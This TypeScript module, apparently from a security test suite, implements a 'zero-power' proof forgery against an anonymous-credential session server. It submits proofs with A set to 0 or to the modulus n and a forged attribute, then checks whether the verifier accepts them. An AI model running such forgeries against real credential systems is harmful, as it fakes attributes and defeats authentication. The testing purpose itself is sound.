/** A = 0 or A = n makes both sides of the equation 0, with any attributes. @module */
import type { Attack } from '../attack.ts'
import { ask, challengeOf, isAccepted } from '../forge.ts'
import { FORGED_NUMBER, holderOf, subjectOf } from '../holder.ts'

export const attack: Attack = {
  name: 'zero-power',
  gains: 'any value, without a signature',
  cites: 'spec/cryptography#16',
  on: 'session server',
  async run(service) {
    const { credential, index } = subjectOf(service, holderOf(service))
    for (const A of [0n, credential.key.n]) {
      const asked = await ask(service, service.disclosure())
      const proof = {
        c: challengeOf(asked, [[A, 0n]]),
        A,
        eResponse: 5n,
        vResponse: 6n,
        aResponses: new Map([[0, 7n]]),
        aDisclosed: new Map([
          [1, credential.attributes[0] ?? 0n],
          [index, FORGED_NUMBER],
        ]),
      }
      if (await isAccepted(service, asked, [proof], [[{ cred: 0, attr: index }]]))
        return `a proof with A = ${A === 0n ? '0' : 'n'} is VALID`
    }
    return null
  },
}
